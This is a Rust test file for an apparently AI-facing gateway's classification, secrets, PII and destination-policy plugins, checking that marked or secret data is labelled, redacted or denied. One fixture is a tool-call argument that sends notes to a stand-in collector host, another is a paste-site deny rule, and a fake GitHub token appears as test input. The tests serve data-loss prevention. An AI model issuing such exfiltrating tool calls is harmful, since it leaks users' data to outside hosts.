//! The stock `classification` and `destinations` plugins: their logic natively, then the whole default chain
//! (pii → secrets → classification → destinations) deciding real exchanges.

use classification::{default_escalations, overall, Classifier, Dictionary, Level};
use destinations::{destination_matches, glob, Effect, Policy, Rule};
use palisade::chain::{self, Dir, Outcome, Request};

use crate::util::{
    default_bundle, edited_default_bundle, key, run_dir, try_edited_default_bundle,
    with_plugin_config,
};

fn levels(text: &str, labels: &[&str]) -> Option<Level> {
    let classifier = Classifier::new(true, Vec::new(), default_escalations());
    let labels: Vec<String> = labels.iter().map(|l| l.to_string()).collect();
    overall(&classifier.classify(text, &labels), &labels)
}

#[test]
fn markings_set_the_level_and_ordinary_prose_does_not() {
    for (text, level) in [
        ("CONFIDENTIAL\nQ3 revenue forecast", Level::Confidential),
        (
            "Classification: SECRET//NOFORN\nsummary follows",
            Level::Restricted,
        ),
        (
            "(S//REL TO USA, GBR) The convoy leaves at dawn.",
            Level::Restricted,
        ),
        ("TOP SECRET briefing notes", Level::Restricted),
        (
            "Privileged & Confidential — Attorney-Client Privileged",
            Level::Confidential,
        ),
        ("This memo is for internal use only.", Level::Internal),
        ("INTERNAL ONLY: rollout plan", Level::Internal),
        ("Strictly confidential: merger terms", Level::Restricted),
    ] {
        assert_eq!(levels(text, &[]), Some(level), "{text:?}");
    }
    for text in [
        "Your data is kept confidential and never shared.",
        "Set CLIENT_SECRET in the environment.",
        "What is the secret to a good sourdough?",
        "We're restricted to 10 requests per second.",
    ] {
        assert_eq!(levels(text, &[]), None, "{text:?}");
    }
}

/// The keyword gate only skips work: every marking phrase, in several cases and with the letters `(?i)`
/// folds to ASCII, and the corpus when it is beside the repository, classify the same with it and without.
#[test]
fn the_keyword_gate_changes_no_classification() {
    let classifier = Classifier::new(true, Vec::new(), default_escalations());
    let phrases = [
        "Classification: SECRET//NOFORN",
        "TOP SECRET//SI//REL TO USA",
        "CONFIDENTIAL//FOUO",
        "(S//REL TO USA, GBR) The convoy",
        "(TS//SI) and (C//NF)",
        "TOP SECRET briefing",
        "STRICTLY CONFIDENTIAL",
        "HIGHLY CONFIDENTIAL",
        "RESTRICTED",
        "strictly confidential: merger terms",
        "Attorney-Client Privileged",
        "attorney client privilege",
        "Privileged & Confidential",
        "attorney work product",
        "Company Confidential",
        "commercially confidential",
        "Proprietary and Confidential",
        "confidential & proprietary",
        "shared under NDA",
        "CONFIDENTIAL",
        "for internal use only",
        "INTERNAL ONLY",
        "not for external distribution",
        "Not For Public Release",
        "do not distribute",
        "DO NOT FORWARD",
    ];
    let mut texts = Vec::new();
    for phrase in phrases {
        let text = format!("Memo. {phrase}. Q3 numbers follow.");
        texts.push(text.to_lowercase());
        texts.push(text.to_uppercase());
        texts.push(text.replace('s', "\u{17F}").replace('k', "\u{212A}"));
        texts.push(text);
    }
    texts.extend(crate::util::dev_corpus_texts());
    let mut marked = 0;
    for text in &texts {
        let expected = classifier.classify_without_gate(text, &[]);
        assert_eq!(classifier.classify(text, &[]), expected, "in {text:?}");
        marked += usize::from(!expected.is_empty());
    }
    // Each phrase in its own case and in capitals at least.
    assert!(marked >= 2 * phrases.len(), "{marked}");
}

#[test]
fn earlier_findings_and_gateway_labels_raise_the_level() {
    assert_eq!(
        levels("anything", &["found:SECRET"]),
        Some(Level::Restricted)
    );
    assert_eq!(
        levels("anything", &["found:US_SSN"]),
        Some(Level::Confidential)
    );
    assert_eq!(levels("anything", &["found:EMAIL_ADDRESS"]), None);
    assert_eq!(
        levels(
            "anything",
            &[
                "found:EMAIL_ADDRESS",
                "found:PHONE_NUMBER",
                "found:IP_ADDRESS"
            ]
        ),
        Some(Level::Restricted)
    );
    // The gateway's own label counts; the highest wins.
    assert_eq!(
        levels("for internal use only", &["sensitivity:confidential"]),
        Some(Level::Confidential)
    );
}

#[test]
fn dictionaries_match_whole_words_in_any_case() {
    let dictionary = Dictionary::new(
        "codenames",
        Level::Confidential,
        &["Project Falcon".into(), "Nightjar".into(), " ".into()],
    )
    .unwrap();
    let classifier = Classifier::new(false, vec![dictionary], Vec::new());
    let marks = classifier.classify("the project falcon launch and NIGHTJAR, not Nightjars", &[]);
    let hits: Vec<_> = marks.iter().map(|m| m.range.clone().unwrap()).collect();
    assert_eq!(hits, vec![4..18, 30..38]);
    assert!(marks
        .iter()
        .all(|m| !m.message.contains("alcon") && m.level == Level::Confidential));
    assert!(Dictionary::new("empty", Level::Internal, &[]).is_err());
}

#[test]
fn destination_patterns_hosts_urls_and_model_names() {
    assert!(glob("*.example.com", "api.example.com"));
    assert!(glob("*.example.com", "a.b.example.com"));
    assert!(!glob("*.example.com", "example.com"));
    assert!(!glob("*.example.com", "evil-example.com"));
    assert!(glob(
        "spiffe://acme.org/ns/team-a/*",
        "spiffe://acme.org/ns/team-a/sa/bot"
    ));
    assert!(destination_matches(
        "*.openai.com",
        "https://api.openai.com/v1/chat"
    ));
    assert!(destination_matches("api.openai.com", "API.OpenAI.com"));
    assert!(destination_matches(
        "https://llm.internal/v1/",
        "https://llm.internal/v1/chat"
    ));
    assert!(!destination_matches(
        "https://llm.internal/v1/",
        "https://llm.internal/v2/chat"
    ));
    assert!(destination_matches("claude-*", "claude-sonnet-4"));
    assert!(!destination_matches(
        "*.example.com",
        "https://example.com.evil.net/x"
    ));
}

/// A rule with only a name and an effect: it matches everything until a test sets conditions.
pub(crate) fn rule(name: &str, effect: Effect) -> Rule {
    Rule {
        name: name.into(),
        effect,
        destinations: Vec::new(),
        tags: Vec::new(),
        unless_tags: Vec::new(),
        principals: Vec::new(),
        tools: Vec::new(),
        labels: Vec::new(),
        directions: Vec::new(),
        reason: None,
    }
}

#[test]
fn rules_decide_in_order_by_labels_tags_principals_and_tools() {
    let policy = Policy {
        tags: [("internal".to_string(), vec!["*.corp.example".to_string()])].into(),
        rules: vec![
            Rule {
                principals: vec!["spiffe://acme.org/ns/admin/*".into()],
                ..rule("admins-anywhere", Effect::Allow)
            },
            Rule {
                labels: vec!["sensitivity:confidential".into()],
                unless_tags: vec!["internal".into()],
                ..rule("confidential-stays-internal", Effect::Deny)
            },
            Rule {
                tools: vec!["http_*".into()],
                destinations: vec!["*.pastebin.com".into()],
                ..rule("no-paste-sites", Effect::Deny)
            },
        ],
        default: Effect::Allow,
        inspect_tool_arguments: true,
    };
    let confidential = vec!["sensitivity:confidential".to_string()];
    let decide =
        |dest: &str, principal: Option<&str>, tool: Option<&str>, labels: &[String], text: &str| {
            policy
                .check(Some(dest), principal, tool, labels, "input", text)
                .into_iter()
                .map(|d| (d.rule, d.effect))
                .collect::<Vec<_>>()
        };
    assert_eq!(
        decide("https://api.openai.com/v1", None, None, &confidential, ""),
        vec![(Some("confidential-stays-internal".into()), Effect::Deny)]
    );
    assert_eq!(
        decide("https://llm.corp.example/v1", None, None, &confidential, ""),
        vec![(None, Effect::Allow)]
    );
    assert_eq!(
        decide(
            "https://api.openai.com/v1",
            Some("spiffe://acme.org/ns/admin/sa/ops"),
            None,
            &confidential,
            ""
        ),
        vec![(Some("admins-anywhere".into()), Effect::Allow)]
    );
    // A URL inside a tool call's arguments is checked like a destination, with its span.
    let args = r#"{"url": "https://x.pastebin.com/api?paste=hello"}"#;
    let decisions = policy.check(None, None, Some("http_post"), &[], "input", args);
    assert_eq!(decisions.len(), 1);
    assert_eq!(decisions[0].effect, Effect::Deny);
    assert_eq!(
        &args[decisions[0].range.clone().unwrap()],
        "https://x.pastebin.com/api?paste=hello"
    );
    // Not a tool call: URLs in prose are not destinations.
    assert!(policy
        .check(None, None, None, &[], "input", args)
        .is_empty());
}

fn check(bundle: &palisade::bundle::Bundle, request: Request) -> chain::Verdicts {
    chain::run(bundle, &request, &key()).expect("no deadline")
}

#[test]
fn the_default_chain_labels_sensitivity_and_denies_nothing_by_destination() {
    let v = check(
        default_bundle(),
        Request {
            text: "CONFIDENTIAL — Q3 forecast, ask ana@example.com".into(),
            destination: Some("https://api.openai.com/v1/chat/completions".into()),
            ..Request::default()
        },
    );
    assert_eq!(v.outcome, Outcome::Modify, "{:?}", v.reason);
    for label in [
        "found:EMAIL_ADDRESS",
        "sensitivity:confidential",
        "destination:external",
    ] {
        assert!(
            v.labels.iter().any(|l| l == label),
            "{label} in {:?}",
            v.labels
        );
    }
    assert!(v.findings.iter().any(|f| f.category == "CLASSIFICATION"));
}

#[test]
fn a_destinations_rule_in_the_bundle_denies_with_its_name() {
    let bundle = edited_default_bundle(|manifest| {
        let manifest = manifest.replace("URL = \"redact\"", "URL = \"report\"");
        manifest
            + r#"
[[plugin.config.rules]]
name = "confidential-stays-internal"
effect = "deny"
labels = ["sensitivity:confidential", "sensitivity:restricted"]
unless_tags = ["internal"]
reason = "confidential data may only go to internal models"

[[plugin.config.rules]]
name = "tools-reach-approved-hosts-only"
effect = "deny"
tools = ["*"]
unless_tags = ["internal"]
"#
    });
    let request = |text: &str, destination: &str, tool: Option<&str>| Request {
        text: text.into(),
        destination: Some(destination.into()),
        tool: tool.map(str::to_string),
        ..Request::default()
    };
    let v = check(
        &bundle,
        request("CONFIDENTIAL: Q3 numbers", "api.openai.com", None),
    );
    assert_eq!(v.outcome, Outcome::Deny);
    let reason = v.reason.unwrap();
    assert!(
        reason.contains("confidential-stays-internal") && reason.contains("internal models"),
        "{reason}"
    );
    let v = check(
        &bundle,
        request("CONFIDENTIAL: Q3 numbers", "llm.internal", None),
    );
    assert_eq!(v.outcome, Outcome::Allow, "{:?}", v.reason);
    // A tool call that would carry data to an unapproved host, though the call itself goes inside.
    let args = r#"{"url": "https://collector.evil.example/c?d=notes"}"#;
    let v = check(&bundle, request(args, "tools.internal", Some("fetch")));
    assert_eq!(v.outcome, Outcome::Deny);
    assert!(v.reason.unwrap().contains("collector.evil.example"));
    let finding = v
        .findings
        .iter()
        .find(|f| f.category == "DESTINATION" && f.span.is_some())
        .expect("the URL's finding carries its span");
    assert_eq!(
        &args[finding.span.clone().unwrap()],
        "https://collector.evil.example/c?d=notes"
    );
}

#[test]
fn a_secret_is_denied_on_input_and_redacted_on_output() {
    let token = format!("ghp_{}", "Q7xK2mP9vR4tL8nW3bY6cJ1hF5gD0sZaEuTi");
    let text = format!("here is the token: {token}");
    let input = run_dir(default_bundle(), &text, Dir::Input);
    assert_eq!(input.outcome, Outcome::Deny);
    let output = run_dir(default_bundle(), &text, Dir::Output);
    assert_eq!(output.outcome, Outcome::Modify, "{:?}", output.reason);
    assert_eq!(output.text, "here is the token: [SECRET]");
    assert!(output.labels.iter().any(|l| l == "sensitivity:restricted"));
}

#[test]
fn pii_and_secrets_config_keys_work_through_the_bundle() {
    let bundle = edited_default_bundle(|m| {
        let m = with_plugin_config(
            m,
            "pii",
            r#"{ allow = ["help@acme.example"], allow_domains = ["acme.example"], patterns = [{ name = "employee-id", category = "EMPLOYEE_ID", pattern = "EMP-[0-9]{6}", context = ["employee"] }] }"#,
        );
        let m = with_plugin_config(
            m,
            "secrets",
            r#"{ disable = ["github-pat"], custom = [{ id = "acme-token", pattern = "acme_(?P<secret>[A-Za-z0-9]{24})" }] }"#,
        );
        m.replace("default = \"report\"", "default = \"redact\"")
    });
    let text = "ticket EMP-654321: mail help@acme.example or ana@acme.example or bob@other.example; employee EMP-123456";
    let v = run_dir(&bundle, text, Dir::Output);
    assert_eq!(
        v.text,
        "ticket EMP-654321: mail help@acme.example or ana@acme.example or [EMAIL_ADDRESS]; employee [EMPLOYEE_ID]"
    );
    let token = "acme_Q7xK2mP9vR4tL8nW3bY6cJ1h";
    let ghp = format!("ghp_{}", "Q7xK2mP9vR4tL8nW3bY6cJ1hF5gD0sZaEuTi");
    let v = run_dir(&bundle, &format!("{token} and {ghp}"), Dir::Input);
    assert_eq!(v.outcome, Outcome::Deny);
    let rules: Vec<&str> = v.findings.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(rules, ["secret.acme-token"], "github-pat is disabled");
}

#[test]
fn a_bad_stock_config_rejects_the_bundle_with_the_plugins_own_words() {
    for (plugin, config, expected) in [
        (
            "pii",
            r#"{ entities = ["EMAIL"] }"#,
            "unknown entity \"EMAIL\"",
        ),
        (
            "pii",
            r#"{ patterns = [{ name = "x", category = "X", pattern = "(" }] }"#,
            "not a valid regex",
        ),
        (
            "secrets",
            r#"{ disable = ["github"] }"#,
            "unknown rule \"github\"",
        ),
        (
            "classification",
            r#"{ dictionaries = { d = { level = "secretish", terms = ["a"] } } }"#,
            "unknown level",
        ),
        (
            // It already has a config table in the default bundle: add a rule to it.
            "destinations",
            "[[plugin.config.rules]]\nname = \"r\"\neffect = \"allow\"\ntags = [\"nope\"]\n",
            "tag \"nope\" is not defined",
        ),
    ] {
        let edit = |m: String| match plugin {
            "destinations" => format!("{m}\n{config}"),
            _ => with_plugin_config(m, plugin, config),
        };
        let err = try_edited_default_bundle(edit)
            .err()
            .unwrap_or_else(|| panic!("{plugin} {config} should not load"))
            .to_string();
        assert!(
            err.contains(plugin) && err.contains(expected),
            "{plugin}: {err}"
        );
    }
}
